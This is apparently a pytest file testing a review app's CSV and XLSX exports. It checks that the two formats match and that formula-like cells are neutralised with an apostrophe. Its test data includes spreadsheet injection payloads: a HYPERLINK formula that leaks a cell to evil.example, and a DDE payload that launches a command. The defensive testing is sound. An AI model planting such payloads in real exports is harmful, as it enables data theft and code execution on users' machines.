"""CSV and XLSX exports: both open with the standard readers, hold the same rows, and defuse
cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest

from tests.reports.conftest import DAY, at
from workflow.extensions import db
from workflow.models import AccountKind, Role

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
)


def number_or_text(value) -> object:
    """A cell as both formats can agree on it: XLSX keeps 6.0 as the number 6, CSV as text."""
    if isinstance(value, int | float):
        return float(value)
    try:
        return float(value)
    except ValueError:
        return value


def read_csv(data: bytes) -> list[list[object]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = csv.reader(io.StringIO(text[1:], newline=""))
    return [[number_or_text(v) for v in row] for row in rows]


def read_xlsx(data: bytes) -> tuple[list[list[object]], list]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = [["" if c.value is None else number_or_text(c.value) for c in row] for row in sheet]
    return rows, [c for row in sheet.iter_rows() for c in row]


def both(client, url: str) -> tuple[list[list[str]], list[list[str]], list]:
    as_csv = client.get(f"{url.replace('{fmt}', 'csv')}")
    as_xlsx = client.get(f"{url.replace('{fmt}', 'xlsx')}")
    assert as_csv.status_code == 200 and as_xlsx.status_code == 200
    assert as_csv.mimetype == "text/csv"
    assert "attachment" in as_xlsx.headers["Content-Disposition"]
    xlsx_rows, xlsx_cells = read_xlsx(as_xlsx.data)
    return read_csv(as_csv.data), xlsx_rows, xlsx_cells


@pytest.fixture
def hostile_queue(make_account, make_journey, make_user):
    journeys = []
    for n, name in enumerate(HOSTILE_NAMES):
        account = make_account(AccountKind.isv, name=name)
        journey = make_journey(account, state="api_access_submitted")
        journey.state_changed_at = datetime.now(UTC) - timedelta(days=len(HOSTILE_NAMES) - n)
        journeys.append(journey)
    db.session.commit()
    return journeys


def test_the_queue_export_holds_the_queue_in_both_formats(hostile_queue, make_user, login):
    client = login(make_user(Role.reviewer))
    csv_rows, xlsx_rows, cells = both(client, "/review/queue.{fmt}")
    assert csv_rows == xlsx_rows
    header, *rows = csv_rows
    assert header[:4] == ["Journey", "Title", "Stage", "State"]
    # Oldest first, as the queue page shows them.
    assert [r[0] for r in rows] == [j.id for j in hostile_queue]
    assert [r[header.index("Days waiting")] for r in rows] == [6.0, 5.0, 4.0, 3.0, 2.0, 1.0]
    assert [r[header.index("Overdue")] for r in rows] == ["yes"] * 4 + ["no"] * 2
    # Every name that would run as a formula starts with an apostrophe, in both files.
    applicants = [r[header.index("Applicant")] for r in rows]
    assert applicants == ["'" + name.replace("\r", "\n") for name in HOSTILE_NAMES]
    # …and no XLSX cell is a formula.
    assert all(c.data_type != "f" for c in cells)
    filtered, _, _ = both(client, "/review/queue.{fmt}?stage=1")
    assert filtered == [header]


def test_the_search_export_holds_every_match(hostile_queue, make_user, login):
    client = login(make_user(Role.reviewer))
    csv_rows, xlsx_rows, cells = both(client, "/review/journeys.{fmt}?q=SUM")
    assert csv_rows == xlsx_rows
    assert [r[0] for r in csv_rows[1:]] == [hostile_queue[3].id]
    assert csv_rows[1][4] == "'@SUM(1,2)"
    everything, _, _ = both(client, "/review/journeys.{fmt}?state=api_access_submitted")
    # Newest first, like the search pages.
    assert [r[0] for r in everything[1:]] == [j.id for j in reversed(hostile_queue)]
    assert all(c.data_type != "f" for c in cells)


def test_the_report_tables_export_the_figures_the_page_shows(
    clock, seller_journey, make_user, login
):
    reviewer = make_user(Role.reviewer)
    for days in (2, 4):
        journey, applicant = seller_journey(f"Store {days}", clock.now)
        start = clock.now
        at(clock, start + DAY, journey, "submit", applicant)
        at(clock, start + days * DAY, journey, "reject", reviewer, comment="No")
    client = login(reviewer)
    csv_rows, xlsx_rows, _ = both(client, "/reports/stage-times.{fmt}")
    assert csv_rows == xlsx_rows
    assert csv_rows[0] == [
        "Stage", "Ended stays", "Median (days)", "p90 (days)", "Review waits past the SLA"
    ]  # fmt: skip
    # The four-day stay's review waited exactly the SLA's three days: overdue, as the queue says.
    assert csv_rows[1] == ["1. Account enablement", 2, 3.0, 4.0, 1]
    for table in ("by-stage", "sla-breaches", "weekly", "reviewers"):
        as_csv, as_xlsx, _ = both(client, f"/reports/{table}.{{fmt}}")
        assert as_csv == as_xlsx and len(as_csv[0]) >= 2, table
    assert client.get("/reports/nothing.csv").status_code == 404
    assert client.get("/reports/weekly.pdf").status_code == 404
